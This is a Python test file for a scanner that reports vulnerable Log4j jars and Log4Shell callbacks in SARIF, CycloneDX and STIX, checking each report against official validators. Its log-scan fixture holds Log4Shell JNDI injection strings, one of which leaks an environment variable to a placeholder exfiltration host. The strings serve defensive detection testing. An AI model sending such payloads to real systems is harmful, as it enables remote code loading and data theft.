"""The scanners' reports judged by independent validators: SARIF 2.1.0 against the official
schema (shipped in Microsoft's ``@microsoft/jest-sarif`` npm package, fetched with
``npm pack`` and checked against its published integrity), CycloneDX 1.6 with
cyclonedx-python-lib's validator, STIX 2.1 with OASIS's stix2-validator.

stix2-validator runs in a virtual environment of its own (made once per session): it
brings ``rfc3987-syntax``, whose import alone costs seconds and which turns on jsonschema's
slow IRI checks (STANDARDS.md, "SBOMs"), so it stays out of the project's environment."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import shutil
import subprocess
import sys
import tarfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from bench.scan_logs_corpus import attempts
from jsonschema import Draft4Validator

from clearinghouse.formats.model import Tlp
from clearinghouse.scan.advisories import load_advisory_dir, match_components
from clearinghouse.scan.jars import scan_jars
from clearinghouse.scan.logs import LogLimits, LogScan, scan_stream
from clearinghouse.scan.model import JarScan
from clearinghouse.scan.render_jars import PROBLEM_RULE, to_cyclonedx, to_json, to_sarif
from clearinghouse.scan.render_logs import TLP_MARKING, to_stix

SARIF_PACKAGE = "@microsoft/jest-sarif@1.0.0-beta.0"
SARIF_INTEGRITY = (  # npm view @microsoft/jest-sarif@1.0.0-beta.0 dist.integrity
    "sha512-A1fOhPd6Ic5iDk4F9YPw1qNB4XF+7+IviR7xl8r2F6QzQkx5cpY9LsGk2rExiFIEcBbjpVnSmwWGBukASkiQ9A=="
)
SARIF_MEMBER = "package/lib/schemas/sarif-2.1.0-rtm.5.json"
NOW = datetime(2021, 12, 10, 8, 30, 15, 123456, tzinfo=UTC)
STIX_VALIDATOR = "stix2-validator==3.3.2"
VALIDATE_STIX = """
import json, sys
from stix2validator import ValidationOptions, validate_instance
out = {}
for path in sys.argv[1:]:
    result = validate_instance(json.load(open(path)), ValidationOptions(version="2.1"))
    out[path] = [str(e) for e in result.errors]
print(json.dumps(out))
"""


@pytest.fixture(scope="session")
def sarif_schema(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    npm = shutil.which("npm")
    if npm is None:
        pytest.skip("npm is not installed: the official SARIF schema comes from an npm package")
    where = tmp_path_factory.mktemp("sarif")
    done = subprocess.run(
        [npm, "pack", SARIF_PACKAGE, "--pack-destination", str(where), "--silent"],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip(f"npm pack {SARIF_PACKAGE} failed (offline?): {done.stderr[-300:]}")
    (tarball,) = where.glob("*.tgz")
    data = tarball.read_bytes()
    digest = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
    assert digest == SARIF_INTEGRITY, "the npm package is not the one pinned"
    with tarfile.open(fileobj=io.BytesIO(data)) as archive:
        member = archive.extractfile(SARIF_MEMBER)
        assert member is not None
        schema: dict[str, Any] = json.loads(member.read())
    return schema


@pytest.fixture(scope="session")
def stix_validator(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The Python of a virtual environment holding OASIS's stix2-validator."""
    venv = tmp_path_factory.mktemp("stix2-validator") / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, timeout=300)
    python = venv / "bin" / "python"
    done = subprocess.run(
        [
            str(python),
            "-m",
            "pip",
            "install",
            "--quiet",
            "--disable-pip-version-check",
            STIX_VALIDATOR,
        ],
        capture_output=True,
        text=True,
        timeout=900,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot install {STIX_VALIDATOR} (no network to PyPI?): {done.stderr[-300:]}")
    return python


def stix_errors(python: Path, bundles: list[dict[str, Any]], where: Path) -> list[list[str]]:
    paths = []
    for n, bundle in enumerate(bundles):
        path = where / f"bundle-{n}.json"
        path.write_text(json.dumps(bundle))
        paths.append(str(path))
    done = subprocess.run(
        [str(python), "-c", VALIDATE_STIX, *paths],
        capture_output=True,
        text=True,
        timeout=300,
        check=True,
    )
    answer: dict[str, list[str]] = json.loads(done.stdout)
    return [answer[path] for path in paths]


@pytest.fixture(scope="module")
def jar_scan(shared_data: Path, tmp_path_factory: pytest.TempPathFactory) -> JarScan:
    root = tmp_path_factory.mktemp("reports")
    jars = shared_data / "jars" / "log4j"
    for jar in jars.glob("log4j-core-*.jar"):
        (root / jar.name).write_bytes(jar.read_bytes())
    (root / "truncated.jar").write_bytes((jars / "log4j-core-2.14.1.jar").read_bytes()[:1000])
    scan = scan_jars([root])
    match_components(scan.components, load_advisory_dir(shared_data / "osv" / "ghsa"))
    return scan


def test_sarif_is_valid_and_names_each_vulnerable_component_and_each_problem(
    sarif_schema: dict[str, Any], jar_scan: JarScan
) -> None:
    document = to_sarif(jar_scan)
    errors = [e.message for e in Draft4Validator(sarif_schema).iter_errors(document)]
    assert errors == []
    results = document["runs"][0]["results"]
    vulnerable = [r for r in results if r["ruleId"] != PROBLEM_RULE]
    assert {r["ruleId"] for r in vulnerable if "2.14.1" in r["message"]["text"]} == {
        "GHSA-jfh8-c2jp-5v3q",
        "GHSA-7rjr-3q55-vv33",
        "GHSA-p6xc-xr62-6r2g",
        "GHSA-8489-44mv-ggj8",
    }
    assert not [r for r in vulnerable if "2.17.1" in r["message"]["text"]]
    (problem,) = [r for r in results if r["ruleId"] == PROBLEM_RULE]
    assert problem["level"] == "warning"
    assert "truncated.jar" in problem["message"]["text"]
    rules = document["runs"][0]["tool"]["driver"]["rules"]
    assert all(rules[r["ruleIndex"]]["id"] == r["ruleId"] for r in results)


def test_cyclonedx_is_valid_1_6_with_vulnerabilities_and_problems(jar_scan: JarScan) -> None:
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    document = to_cyclonedx(jar_scan, now=NOW)
    error = JsonStrictValidator(SchemaVersion.V1_6).validate_str(json.dumps(document))
    assert error is None, str(error)[:2000]
    purls = {c["purl"] for c in document["components"]}
    assert "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1" in purls
    refs = {c["bom-ref"]: c["purl"] for c in document["components"]}
    log4shell = next(v for v in document["vulnerabilities"] if v["id"] == "GHSA-jfh8-c2jp-5v3q")
    assert [refs[a["ref"]] for a in log4shell["affects"]] == [
        "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1"
    ]
    assert {"id": "CVE-2021-44228", "source": {"name": "NVD"}} in log4shell["references"]
    (problem,) = document["metadata"]["properties"]
    assert "truncated.jar: corrupt" in problem["value"]


def test_json_report_lists_components_problems_and_counts(jar_scan: JarScan) -> None:
    document = to_json(jar_scan, "ghsa")
    assert document["summary"] == {
        "files": 4,
        "archives": 3,
        "components": 3,
        "vulnerable": 2,
        "problems": 1,
    }
    assert document["problems"][0]["kind"] == "corrupt"


def _log_scan() -> LogScan:
    scan = LogScan()
    lines = [a.line for a in attempts(300, seed=7)]
    lines.append("x ${jndi:ldap://${env:USER}.exfil.example/a}")
    lines.append("y ${jndi:rmi://10.1.2.3:1099/o}")
    scan_stream("access.log", io.BytesIO(("\n".join(lines) + "\n").encode()), scan, LogLimits())
    return scan


@pytest.mark.slow
def test_stix_bundles_pass_the_oasis_validator_with_their_tlp(
    stix_validator: Path, tmp_path: Path
) -> None:
    bundles = {tlp: to_stix(_log_scan(), tlp=tlp, now=NOW) for tlp in Tlp}
    errors = stix_errors(stix_validator, list(bundles.values()), tmp_path)
    assert errors == [[] for _ in bundles]
    for tlp, bundle in bundles.items():
        objects = bundle["objects"]
        assert {o["type"] for o in objects} == {"indicator", "sighting"}
        assert all(o["object_marking_refs"] == [TLP_MARKING[tlp]] for o in objects)


def test_stix_bundle_holds_an_indicator_and_a_sighting_per_callback() -> None:
    objects = to_stix(_log_scan(), tlp=Tlp.AMBER, now=NOW)["objects"]
    indicators = {o["id"]: o for o in objects if o["type"] == "indicator"}
    sightings = [o for o in objects if o["type"] == "sighting"]
    assert len(sightings) == len(indicators)
    assert all(s["sighting_of_ref"] in indicators for s in sightings)
    patterns = {o["pattern"] for o in indicators.values()}
    assert "[ipv4-addr:value = '10.1.2.3']" in patterns
    assert "[url:value = 'ldap://${env:USER}.exfil.example/a']" in patterns
    assert sum(s["count"] for s in sightings) == 302


def test_stix_ids_are_stable_across_scans() -> None:
    first = to_stix(_log_scan(), tlp=Tlp.GREEN, now=NOW)
    again = to_stix(_log_scan(), tlp=Tlp.GREEN, now=NOW)
    assert [o["id"] for o in first["objects"]] == [o["id"] for o in again["objects"]]


@pytest.mark.shared_data
def test_tlp_marking_ids_are_the_official_ones(shared_data: Path) -> None:
    folder = shared_data / "schemas" / "stix-tlp2"
    official: dict[str, str] = {}
    for path in folder.glob("marking-definition--*.json"):
        (marking,) = json.loads(path.read_text())["objects"]
        official[marking["extensions"][next(iter(marking["extensions"]))]["tlp_2_0"]] = marking[
            "id"
        ]
    assert {level.value.lower(): marking for level, marking in TLP_MARKING.items()} == official
